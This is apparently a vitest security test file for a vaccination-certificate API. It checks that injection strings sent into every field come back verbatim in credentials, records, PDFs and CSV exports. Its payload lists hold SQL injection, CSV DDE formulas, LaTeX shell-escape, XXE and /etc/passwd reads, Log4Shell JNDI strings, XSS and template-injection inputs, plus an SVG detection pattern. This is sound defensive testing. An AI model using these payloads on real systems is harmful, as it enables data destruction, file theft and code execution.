/** Text made to be taken for something else, in every field of the certificate type: it arrives everywhere as what it is, a text. */
import pg from 'pg'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { sealNext } from '@/lib/audit/store-seal'
import { VACCINATION } from '@/lib/certificate-types/declaration'
import { liveContext } from '@/lib/certificates/context'
import { ROLES } from '@/lib/auth/roles'
import { anOperator, ask, aToken, cookieOf, issueWaiting, startApi } from '@/lib/testing/api'
import { aRequest } from '@/lib/testing/builders'
import { readPdf } from '@/lib/testing/read-pdf'
import { contract } from './contract'

/** Fits every field of text, identifiers included: those take neither < nor > nor ". */
const EVERYWHERE: [what: string, text: string][] = [
  ['SQL', `Robert'); DROP TABLE lineage;-- ' OR '1'='1' /* */`],
  ['JSON', `x', 'dose': 9, {'$ne': null} \\u0022, \\`],
  ['Mustache', '{{name}} {{{certificateId}}} {{#each x}}{{/each}}'],
  ['Typst', '#panic(1) #read(/etc/passwd) $x^2$ *b* _i_ = H // c /* c */ [x] \\u{41} ~ ---'],
  ['a CSV formula, =', "=cmd|' /C calc'!A0"],
  ['a CSV formula, +', '+1+1'],
  ['a CSV formula, -', '-1+1'],
  ['a CSV formula, @', '@SUM(A1)'],
  ['LaTeX', '\\input{/etc/passwd} \\immediate\\write18{id} %'],
  ['template literals', '${process.env.NEXTAUTH_SECRET} #{7*7} %{x} ${jndi:ldap://x}'],
  ['words of JSON-LD', '@type'],
  ['names of prototypes', '__proto__'],
  ['a formatted log line', '%s %o %d \\n level=60'],
  ['a path', '../../etc/passwd'],
  ['an accent on an accent', `e${'\u0301'.repeat(40)}`],
]

/** What identifiers do not take, everywhere else. */
const IN_TEXTS: [what: string, text: string][] = [
  ['HTML', `<img src=x onerror=alert(1)><script>alert(1)</script>"><svg/onload=alert(1)>&amp;&#60;`],
  ['JSON that closes', `x"}, "dose": 3, "z": {"a":"`],
  ['Typst labels', '<label> @ref "#sys.version"'],
  ['N-Quads', '"^^<urn:x> . <urn:a> <urn:b> "c'],
  ['a CSV formula with quotes', '=HYPERLINK("http://x.example?"&A1,"y")'],
  ['server templates', '<%= 7*7 %> <?php echo 1 ?> <!--#exec cmd="id"-->'],
  ['XML', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;'],
]

const REFUSED: [what: string, text: string][] = [
  ['an end of line and a forged log line', 'x\r\n{"level":60,"msg":"forged"}'],
  ['NUL', 'a\u0000b'],
  ['an override of direction', 'a\u202eb'],
  ['half a character', 'a\ud800'],
  ['a line separator', 'a\u2028b'],
  ['a long grapheme cluster', `e${'\u0301'.repeat(400)}`],
]

const fields = VACCINATION.sections.flatMap((section) => section.fields)
const TEXT_KINDS = ['text', 'choice', 'code', 'identifier']
const texts = fields.filter(({ kind }) => TEXT_KINDS.includes(kind))

let api: Awaited<ReturnType<typeof startApi>>
let token: string
let cookie: string
let count = 0

beforeAll(async () => {
  api = await startApi()
  token = await aToken()
  cookie = await cookieOf(await anOperator({ roles: ROLES }))
})
afterAll(() => api.close())

/** A request with a text of its own in every field of text. */
function requestOf(code: string, value: (path: string) => string) {
  const record: Record<string, unknown> = structuredClone(aRequest({ preEnrollmentCode: code }))
  for (const { path } of texts) put(record, path, value(path))
  put(record, 'recipient.contact', [value('recipient.contact')])
  return record
}

function put(record: Record<string, unknown>, path: string, value: unknown): void {
  const keys = path.split('.')
  let node = record
  for (const key of keys.slice(0, -1)) node = (node[key] ??= {}) as Record<string, unknown>
  node[keys.at(-1)!] = value
}

async function certified(item: Record<string, unknown>) {
  const { status, body } = await ask(contract.certify, { token, body: [item] })
  expect(status, JSON.stringify(body)).toBe(200)
  await issueWaiting()
  const { certificateId } = body.results[0]
  const { body: view } = await ask(contract.certificate, { token, params: { certificateId } })
  return { certificateId: certificateId as string, view }
}

/** The text of a field: its last part at the end tells two fields of one certificate apart. */
const marked = (text: string) => (path: string) =>
  `${text} ${path.split('.').at(-1)}${path.startsWith('facility') ? 'F' : ''}`

/** A credential with the texts of one request put in the place of another's, and what differs in any two certificates taken out. */
function withTexts(credential: unknown, from: Map<string, string>): unknown {
  const { proof: _proof, issuanceDate: _date, ...claims } = credential as Record<string, unknown>
  return JSON.parse(
    JSON.stringify(claims, (key, value: unknown) => {
      if (key === 'certificateId') return 'its number'
      if (typeof value !== 'string') return value
      return from.get(value) ?? value
    }),
  )
}

async function everywhereAsItIs(text: string, inIdentifiers: string): Promise<void> {
  const plainCode = `PLAIN${++count}`
  const identifiers = new Set(texts.filter(({ kind }) => kind === 'identifier').map(({ path }) => path))
  const value = (path: string) => marked(identifiers.has(path) ? inIdentifiers : text)(path)
  const code = `${inIdentifiers} ${++count}`
  const plain = await certified(requestOf(plainCode, (path) => `neutral ${path}`))
  const hostile = await certified(requestOf(code, value))

  // The credential: each value in its own place, and nothing else changed.
  const places = new Map(texts.map(({ path }) => [`neutral ${path}`, value(path)]))
  places.set(plainCode, code)
  const expected = withTexts(plain.view.credential, places) as {
    credentialSubject: { id: unknown }
    evidence: object[]
  }
  const found = withTexts(hostile.view.credential, new Map()) as typeof expected
  // An identity that is no IRI is written as one, percent-encoded.
  const subject = decodeURIComponent(String(found.credentialSubject.id))
  expect(subject.endsWith(`:${value('recipient.identity')}`), subject).toBe(true)
  expected.credentialSubject.id = found.credentialSubject.id
  const links = ({ evidence }: typeof expected) =>
    evidence.map((one) => ({ ...one, id: undefined, infoUrl: undefined, feedbackUrl: undefined }))
  expect({ ...found, evidence: links(found) }).toEqual({ ...expected, evidence: links(expected) })

  // The record and the history.
  for (const { path } of texts) expect(at(hostile.view.record, path), path).toBe(value(path))
  const { body } = await ask(contract.lineages, { token, query: { preEnrollmentCode: code } })
  expect(body.lineages).toHaveLength(1)
  expect(body.lineages[0].preEnrollmentCode ?? body.preEnrollmentCode).toBe(code)

  // The page: exactly that text, in print and as a picture.
  const params = { certificateId: hostile.certificateId, extension: 'pdf' }
  const pdf = await readPdf((await ask(contract.certificateFile, { token, params })).bytes)
  const printed = bare(pdf.pages.map((page) => page.text).join(''))
  for (const { path, printed: isPrinted } of fields) {
    if (isPrinted && texts.some((one) => one.path === path)) expect(printed, path).toContain(bare(value(path)))
  }
  const picture = { certificateId: hostile.certificateId, extension: 'page.svg' }
  const svg = Buffer.from((await ask(contract.certificateFile, { token, params: picture })).bytes).toString('utf8')
  expect(svg).not.toMatch(/<script|onerror|onload|<foreignObject|href="(?!#|data:)/)
}

/** Lines are broken and joined on paper. */
const bare = (text: string) => text.normalize('NFC').replace(/[\s\u00a0\u00ad\u200b]/g, '')

function at(record: unknown, path: string): unknown {
  return path.split('.').reduce<unknown>((node, key) => (node as Record<string, unknown>)?.[key], record)
}

describe('injected into every field: credential, record, history and PDF show exactly the text', () => {
  test.each(EVERYWHERE)('%s', (_what, text) => everywhereAsItIs(text, text))
  test.each(IN_TEXTS)('%s', (_what, text) => everywhereAsItIs(text, 'ID-1'))
})

describe('what no certificate can hold is refused in every field, by the name of the field', () => {
  test.each(REFUSED)('%s', async (_what, text) => {
    for (const { path } of texts) {
      const whole = requestOf(`R${++count}`, () => 'neutral')
      put(whole, path, text)
      const { status, body } = await ask(contract.certify, { token, body: [whole] })
      expect([path, status], JSON.stringify(body)).toEqual([path, 400])
      const named = new Set(body.details.map((detail: { path: string }) => detail.path))
      expect([...named]).toEqual([`/${path.replaceAll('.', '/')}`])
    }
  })
})

describe('files for spreadsheets and lists', () => {
  test('a code, a batch and the name of a person that are CSV formulas are texts in every file', async () => {
    const formula = '=1+1'
    const batch = `@SUM(A1) ${++count}`
    const item = aRequest({ preEnrollmentCode: `${formula} ${count}`, vaccination: { name: '+vaccine', batch } })
    const { certificateId } = await certified(item)
    const [first, second] = await Promise.all(
      ['first', 'second'].map(async (name) => {
        const operator = await anOperator({ roles: ROLES })
        await liveContext().db.operator.update({ where: { id: operator.id }, data: { name: `-2+3 ${name}` } })
        return { cookie: await cookieOf(operator), headers: { 'sec-fetch-site': 'same-origin' } }
      }),
    )
    const criteria = { vaccine: '+vaccine', batch }
    const attempt = crypto.randomUUID()
    const proposed = await ask(contract.proposeRecall, {
      ...first,
      body: { action: 'suspend', criteria, attempt, reason: '=reason' },
    })
    expect(proposed.status, JSON.stringify(proposed.body)).toBe(200)
    const params = { recallId: attempt }
    expect((await ask(contract.confirmRecall, { ...second, params, body: { batch } })).status).toBe(200)
    const rows = Buffer.from((await ask(contract.recallFile, { ...second, params })).bytes).toString('utf8')
    expect(rows).toContain(`${certificateId},'${formula} ${count},`)
    expect(cellsOf(rows).filter((cell) => /^[=+\-@]/.test(cell))).toEqual([])

    await seal()
    const today = new Date().toISOString().slice(0, 10)
    const query = { from: today, to: today, format: 'csv' }
    const log = Buffer.from((await ask(contract.auditExport, { cookie, query })).bytes).toString('utf8')
    expect(log).toContain(",'-2+3 first,")
    expect(cellsOf(log).filter((cell) => /^[=+\-@]/.test(cell))).toEqual([])
  })

  test('the audit log finds a code that is SQL, and nothing else, and shows it as it is', async () => {
    const code = `x' or '1'='1 ${++count}`
    const { certificateId } = await certified(aRequest({ preEnrollmentCode: code }))
    const { body } = await ask(contract.audit, { cookie, query: { about: code } })
    expect(body.events.length).toBeGreaterThan(0)
    const about = new Set(body.events.map((event: { certificateId: string | null }) => event.certificateId))
    expect([...about].filter((one) => one !== null)).toEqual([certificateId])
    const none = await ask(contract.audit, { cookie, query: { who: `%' or 1=1 --` } })
    expect(none.body.events).toEqual([])
  })
})

/** The cells of a CSV file, without their quotes. */
function cellsOf(csv: string): string[] {
  return Array.from(csv.matchAll(/(?:^|,|\r\n)("(?:[^"]|"")*"|[^,\r\n]*)/g), ([, cell = '']) =>
    cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell,
  )
}

async function seal(): Promise<void> {
  const client = new pg.Client({ connectionString: process.env.DATABASE_URL })
  await client.connect()
  try {
    // Transactions of other test files on this server hold the newest rows back for a moment.
    for (let unsealed = 1; unsealed > 0;) {
      await sealNext(client, new Date())
      unsealed = (await ask(contract.auditLogState, { cookie })).body.unsealed
    }
  } finally {
    await client.end()
  }
}
